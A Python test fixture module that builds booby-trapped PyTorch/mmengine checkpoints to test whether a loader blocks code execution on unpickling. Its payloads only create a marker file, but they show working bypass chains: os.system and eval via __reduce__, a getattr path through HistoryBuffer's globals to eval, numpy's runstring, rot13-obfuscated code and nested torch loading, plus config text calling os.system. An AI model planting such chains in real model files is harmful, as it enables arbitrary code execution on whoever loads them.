"""Checkpoint files that run code when they are read carelessly.

Every payload does the same: it makes the marker file. Each kind takes another way to
get there, so that a reader that closes one way only is found out.
"""

import _codecs
import codecs
import io
import os
import pickle
import tarfile
from pathlib import Path

import torch
from mmengine.logging import HistoryBuffer


class Call:
    """Pickles as the call of a function, which may be the result of another call."""

    def __init__(self, function, *args):
        self.function, self.args = function, args

    def __call__(self):
        """Pickle accepts callables only in the place of a function."""

    def __reduce__(self):
        return self.function, self.args


def by_os_system(marker: Path):
    return Call(os.system, f'touch {marker}')


def by_eval(marker: Path):
    return Call(eval, f'open({str(marker)!r}, "w").close()')


def by_getattr_of_history_buffer(marker: Path):
    """From a method of an allowed class to the globals of its module, to eval."""
    update = Call(getattr, HistoryBuffer, 'update')
    module = Call(getattr, update, '__globals__')
    builtins = Call(Call(getattr, module, 'get'), '__builtins__')
    run = Call(Call(getattr, builtins, 'get'), 'eval')
    return Call(run, f'open({str(marker)!r}, "w").close()')


def by_numpy(marker: Path):
    """A numpy function that executes its argument."""
    from numpy.testing._private.utils import runstring

    return Call(runstring, f'open({str(marker)!r}, "w").close()', {})


def by_codecs(marker: Path):
    """The code does not stand in the file as such."""
    code = codecs.encode(f'open({str(marker)!r}, "w").close()', 'rot13')
    return Call(eval, Call(_codecs.decode, code, 'rot13'))


def by_nested_torch_load(marker: Path):
    """A pickled tensor calls this function, which loads without any check."""
    stream = io.BytesIO()
    torch.save({'state_dict': by_os_system(marker)}, stream)
    return Call(torch.storage._load_from_bytes, stream.getvalue())


PAYLOADS = {
    'os.system': by_os_system,
    'eval': by_eval,
    'getattr of HistoryBuffer': by_getattr_of_history_buffer,
    'numpy': by_numpy,
    'codecs': by_codecs,
    'nested torch.load': by_nested_torch_load,
}


def checkpoint_with(payload, weights: dict) -> dict:
    """Return a training checkpoint with good weights and the payload in its meta."""
    return {
        'state_dict': dict(weights),
        'meta': {'epoch': 1, 'iter': 4, 'experiment_name': payload},
        'message_hub': {'log_scalars': {}, 'runtime_info': {}, 'resumed_keys': {}},
        'optimizer': {'state': {}, 'param_groups': []},
        'param_schedulers': [],
    }


def write_zip(path: Path, payload, weights: dict) -> Path:
    torch.save(checkpoint_with(payload, weights), path)
    return path


def write_legacy(path: Path, payload, weights: dict) -> Path:
    content = checkpoint_with(payload, weights)
    torch.save(content, path, _use_new_zipfile_serialization=False)
    return path


def write_bare_pickle(path: Path, payload, weights: dict) -> Path:
    path.write_bytes(pickle.dumps(checkpoint_with(payload, weights), protocol=4))
    return path


def write_tar(path: Path, payload, weights: dict) -> Path:
    """The oldest format of torch: a tar file of three pickles."""
    with tarfile.open(path, 'w:', format=tarfile.PAX_FORMAT) as archive:
        for name in ('storages', 'tensors', 'pickle'):
            content = pickle.dumps(payload, protocol=2)
            member = tarfile.TarInfo(name)
            member.size = len(content)
            archive.addfile(member, io.BytesIO(content))
    return path


CONTAINERS = {
    'zip': write_zip,
    'legacy': write_legacy,
    'pickle': write_bare_pickle,
    'tar': write_tar,
}


def config_text(marker: Path) -> str:
    """Return a config that does its work and runs the payload beside it."""
    return (
        'model = dict(data_preprocessor=dict(mean=[1, 2, 3], std=[4, 5, 6]))\n'
        f'payload = __import__("os").system("touch {marker}")\n'
    )


def write_plain(path: Path, marker: Path, weights: dict, place: str) -> Path:
    """Write strings and tensors only; ``place`` names the text that a host executes."""
    content = checkpoint_with('plain', weights)
    text = config_text(marker)
    if place == 'message_hub':
        content['message_hub']['runtime_info']['cfg'] = text
    else:
        content['meta'][place] = text
    torch.save(content, path)
    return path


TEXT_PLACES = ('cfg', 'config', 'message_hub')
